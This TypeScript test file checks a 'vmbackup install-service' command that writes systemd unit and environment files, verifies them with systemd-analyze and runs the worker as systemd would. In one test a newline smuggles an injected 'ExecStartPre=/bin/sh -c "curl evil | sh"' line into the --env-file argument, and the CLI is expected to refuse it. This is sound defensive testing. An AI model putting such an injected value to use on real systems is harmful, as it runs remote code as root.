/**
 * `vmbackup install-service`: the unit it writes passes `systemd-analyze verify` (systemd's own parser, with no
 * warning), and the worker it describes runs as systemd would start it: the command from ExecStart= with the variables
 * of EnvironmentFile=, stopping cleanly on SIGTERM and exiting non-zero (so Restart=on-failure restarts it) when the
 * cluster cannot be reached. This machine runs no systemd: nothing is enabled or started through it.
 */
import { execFile, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { appendFile, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { requireTemporal, stackEnv } from '../helpers/stack';
import { parseUnit } from '../helpers/systemd-unit';
import { REPO_ROOT, runCli, temporalClient } from '../helpers/vmbackup';

function systemdAnalyzeVerify(unitPath: string): Promise<{ code: number; stderr: string }> {
  return new Promise((resolve, reject) => {
    execFile('systemd-analyze', ['verify', unitPath], { timeout: 60_000 }, (err, _stdout, stderr) => {
      if (err && (err as NodeJS.ErrnoException).code === 'ENOENT') {
        reject(new Error('systemd-analyze is missing: apt-get install -y systemd (Debian ships it in that package)'));
        return;
      }
      resolve({ code: err ? Number((err as { code?: unknown }).code ?? 1) : 0, stderr });
    });
  });
}

/** KEY=value lines of an EnvironmentFile= (comments and blanks skipped), as systemd reads the simple ones. */
function envFileVars(text: string): Record<string, string> {
  const vars: Record<string, string> = {};
  for (const line of text.split('\n')) {
    const m = /^\s*([A-Za-z_][A-Za-z0-9_]*)=(.*)$/.exec(line);
    if (m) vars[m[1]!] = m[2]!;
  }
  return vars;
}

/** The service's main process as systemd would start it: ExecStart= split on spaces, PATH and env file applied. */
async function startAsSystemd(unitText: string): Promise<{
  exited: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  output: () => string;
  kill: (s: NodeJS.Signals) => void;
}> {
  const service = parseUnit(unitText).Service ?? {};
  const [file, ...args] = (service.ExecStart?.[0] ?? '').split(' ');
  const envFile = service.EnvironmentFile?.[0] ?? '';
  const path = service.Environment?.find((e) => e.startsWith('PATH='))?.slice(5);
  const env = {
    PATH: path ?? '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
    HOME: '/root',
    USER: service.User?.[0] ?? 'root',
    ...envFileVars(await readFile(envFile, 'utf8')),
  };
  const child = spawn(file!, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
  const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((res) =>
    child.once('exit', (code, signal) => res({ code, signal })),
  );
  return { exited, output: () => out, kill: (s) => child.kill(s) };
}

describe('vmbackup install-service', () => {
  let dir: string;
  let unitDir: string;
  let envFile: string;
  const host = `ts3svc-${randomBytes(3).toString('hex')}`;
  const unitName = `vmbackup-worker-${host}.service`;

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'vmbt-service-'));
    unitDir = join(dir, 'systemd', 'system');
    envFile = join(dir, 'etc', 'vmbackup', 'worker.env');
  });

  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const install = (...extra: string[]) =>
    runCli(['install-service', '--host', host, '--unit-dir', unitDir, '--env-file', envFile, ...extra]);

  test('writes a unit that systemd-analyze verify accepts without a warning, and the env file (0600)', async () => {
    const r = await install();
    expect(r).toMatchObject({ code: 0, stdout: '' });
    const unitPath = join(unitDir, unitName);
    expect(r.stderr).toContain(`wrote ${unitPath}`);
    expect(r.stderr).toContain(`systemctl daemon-reload && systemctl enable --now ${unitName}`);

    expect((await stat(unitPath)).mode & 0o777).toBe(0o644);
    const verify = await systemdAnalyzeVerify(unitPath);
    expect(verify).toEqual({ code: 0, stderr: '' });

    const unit = parseUnit(await readFile(unitPath, 'utf8'));
    expect(unit.Service).toMatchObject({
      ExecStart: [`${join(REPO_ROOT, 'bin', 'vmbackup')} worker --host ${host}`],
      Restart: ['on-failure'],
      User: ['root'],
      EnvironmentFile: [envFile],
    });
    expect((await stat(envFile)).mode & 0o777).toBe(0o600);
    expect(await readFile(envFile, 'utf8')).toBe(
      await readFile(join(REPO_ROOT, 'contrib', 'systemd', 'worker.env.example'), 'utf8'),
    );
  });

  test('again: the unit is unchanged and the env file, which the admin has edited, is left alone', async () => {
    expect((await install()).code).toBe(0);
    await appendFile(envFile, 'TEMPORAL_ADDRESS=temporal.example.net:7233\n');
    const edited = await readFile(envFile, 'utf8');
    const again = await install();
    expect(again.code).toBe(0);
    expect(again.stderr).toContain(`unchanged ${join(unitDir, unitName)}`);
    expect(await readFile(envFile, 'utf8')).toBe(edited);
  });

  test('--dry-run prints the unit and writes nothing', async () => {
    const r = await install('--dry-run');
    expect(r.code).toBe(0);
    expect(parseUnit(r.stdout).Service?.Restart).toEqual(['on-failure']);
    expect(r.stderr).toContain(`would write ${join(unitDir, unitName)}`);
    await expect(readdir(dir)).resolves.toEqual([]);
  });

  test('a unit of that name the admin wrote is never replaced', async () => {
    expect((await install()).code).toBe(0);
    const own = '[Service]\nExecStart=/usr/local/sbin/my-own-worker\n';
    await writeFile(join(unitDir, unitName), own);
    const r = await install();
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      `vmbackup: ${join(unitDir, unitName)} exists and was not written by vmbackup install-service: move it away first, or write elsewhere with --unit-dir\n`,
    );
    expect(await readFile(join(unitDir, unitName), 'utf8')).toBe(own);
  });

  test('an --env-file that would add a line to the unit is refused with one sentence; nothing is written', async () => {
    const r = await runCli([
      'install-service',
      '--unit-dir',
      unitDir,
      '--env-file',
      '/etc/vmbackup/w.env\nExecStartPre=/bin/sh -c "curl evil | sh"',
    ]);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^vmbackup: --env-file must be an absolute path/);
    await expect(readdir(dir)).resolves.toEqual([]);
  });

  test('an unknown --user is refused', async () => {
    const r = await install('--user', 'nosuchuser-vmbt');
    expect(r).toMatchObject({ code: 1 });
    expect(r.stderr).toBe(
      'vmbackup: there is no user "nosuchuser-vmbt" on this machine: create it or pass --user root\n',
    );
  });

  test('started as systemd starts it, the worker serves its host, stops cleanly on SIGTERM, and fails (non-zero) without a cluster', async () => {
    await requireTemporal();
    expect((await install()).code).toBe(0);
    const unitText = await readFile(join(unitDir, unitName), 'utf8');
    const { address, namespace } = stackEnv().temporal;
    await appendFile(
      envFile,
      `TEMPORAL_ADDRESS=${address}\nTEMPORAL_NAMESPACE=${namespace}\nVMBACKUP_STATE_DIR=${join(dir, 'state')}\n`,
    );
    const worker = await startAsSystemd(unitText);
    const deadline = Date.now() + 120_000;
    while (!/vmbackup worker for host/.test(worker.output()) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(worker.output()).toContain(
      `vmbackup worker for host ${host} on ${address} (task queue vmbackup-host-${host};`,
    );
    worker.kill('SIGTERM');
    // systemd counts exit 0 (or death by SIGTERM) as a clean stop: no restart after `systemctl stop`
    const stopped = await worker.exited;
    expect(stopped.code === 0 || stopped.signal === 'SIGTERM').toBe(true);
    // the worker started its host's recovery workflow (src/worker/index.ts), which waits for that host's worker to
    // come back; this one-off host never does, so end it rather than leave it running in the dev server
    const { client, close } = await temporalClient();
    try {
      await client.workflow
        .getHandle(`vmbackup-recover-${host}`)
        .terminate('install-service test: its one-off host is gone')
        .catch(() => undefined);
    } finally {
      await close();
    }

    // No cluster: a failure, which Restart=on-failure retries every RestartSec
    await writeFile(envFile, `TEMPORAL_ADDRESS=127.0.0.1:1\nVMBACKUP_STATE_DIR=${join(dir, 'state')}\n`);
    const lost = await startAsSystemd(unitText);
    const ended = await lost.exited;
    expect(ended.code).not.toBe(0);
    expect(ended.code).not.toBeNull();
    expect(lost.output()).toMatch(/^vmbackup: .*127\.0\.0\.1:1/m);
  });
});
